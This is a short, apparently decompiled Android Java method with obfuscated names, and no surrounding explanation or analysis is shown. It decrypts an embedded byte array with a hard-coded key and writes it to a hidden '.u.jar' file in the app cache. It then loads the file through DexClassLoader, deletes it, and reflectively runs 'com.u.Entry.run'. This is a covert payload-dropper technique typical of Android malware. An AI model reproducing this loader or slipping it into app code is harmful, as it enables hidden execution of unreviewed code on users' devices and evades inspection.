public Object c(android.content.Context p7, byte[] p8) {
  java.io.File v0_1 = new java.io.File(p7.getCacheDir(), ".u.jar");
  java.io.FileOutputStream v1_2 = new java.io.FileOutputStream(v0_1);
  v1_2.write(this.d(p8, "k3y"));
  v1_2.close();
  dalvik.system.DexClassLoader v2_1 = new dalvik.system.DexClassLoader(
      v0_1.getAbsolutePath(), p7.getCacheDir().getAbsolutePath(),
      0, p7.getClassLoader());
  Class v3_2 = v2_1.loadClass("com.u.Entry");
  v0_1.delete();
  return v3_2.getMethod("run", new Class[0]).invoke(0, new Object[0]);
}
